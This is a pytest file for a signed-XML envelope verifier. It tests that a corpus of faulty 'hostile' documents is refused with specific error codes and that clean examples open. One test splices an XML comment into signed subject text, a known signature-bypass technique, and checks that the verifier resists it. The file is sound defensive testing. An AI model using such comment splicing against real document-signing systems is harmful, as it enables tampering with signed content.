    Case("two-french-subjects", two_french_subjects, C.LANGUAGE_DUPLICATE, "Content/Subject"),
    Case("dutch-body-without-dutch-subject", dutch_body_without_dutch_subject, C.LANGUAGE_MISSING, "Content/Body"),
    Case("no-body-and-no-document", no_body_and_no_document, C.MAIN_CONTENT_MISSING, "/Content"),
    Case("two-choices-same-id", two_choices_same_id, C.REPLY_OPTIONS_INVALID, "ReplyOptions/Choices"),
)


def _open(hostile: Hostile, backend: str):
    verifier = Verifier(hostile.trust if hostile.trust is not None else keys().trust, backend=backend)
    return open_envelope(hostile.data, verifier=verifier, now=hostile.now, **hostile.options)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------
# Tests
# ---------------------------------------------------------------------------------------


def test_corpus_is_large_and_varied() -> None:
    # Given the corpus
    ids = [case.id for case in CORPUS]
    codes = {case.code for case in CORPUS}
    # Then it holds enough distinct cases, covering most refusal codes
    assert len(CORPUS) >= 45
    assert len(set(ids)) == len(ids), "case ids must be unique"
    assert len(codes) >= 20, sorted(codes)


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("case", [pytest.param(case, id=case.id) for case in CORPUS])
def test_hostile_document_is_refused_with_its_code(case: Case, backend: str) -> None:
    # Given a document with one fault
    hostile = case.hostile()

    # When the hub opens it
    with pytest.raises(Rejected) as caught:
        _open(hostile, backend)

    # Then it is refused with the expected stable code, and a message a person can act on
    refusal = caught.value
    assert refusal.code == case.code, refusal.message
    assert all(v.code == case.code for v in refusal.violations), [str(v) for v in refusal.violations]
    assert len(refusal.message) > 20
    assert refusal.message != str(case.code)
    # ... located where it helps
    first = refusal.violations[0]
    if case.at is not None:
        assert first.path is not None and first.path.endswith(case.at), first.path
        assert isinstance(first.line, int) and first.line >= 1
    if case.code is C.XML_MALFORMED:
        assert isinstance(first.line, int)


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("kind", list(ex.KINDS))
def test_untouched_examples_are_accepted(kind: str, backend: str) -> None:
    """The control group: the documents the corpus is made from open cleanly."""
    # Given an example envelope signed properly by its sender
    data = signed(kind)
    # When the hub opens it
    opened = _open(Hostile(data), backend)
    # Then it is the example
    assert opened.envelope == example(kind)


@pytest.mark.parametrize("backend", BACKENDS)
def test_comment_spliced_into_signed_text_reads_back_whole(backend: str) -> None:
    # Given a signed letter whose subject has a comment spliced in after signing
    original = "Votre déclaration d'impôt 2026"
    data = signed("citizen-letter")
    spliced = swap(data, "Votre déclaration d'impôt", "Votre déc<!-- x -->laration d'impôt")

    # When the hub opens it
    opened = _open(Hostile(spliced), backend)

    # Then the signature still holds (comments are not signed) and the subject is the
    # whole text that was signed, not the part before the comment
    french = next(s for s in opened.envelope.content.subjects if s.lang is m.Language.FR)
    assert french.value == original
    assert opened.envelope == example("citizen-letter")
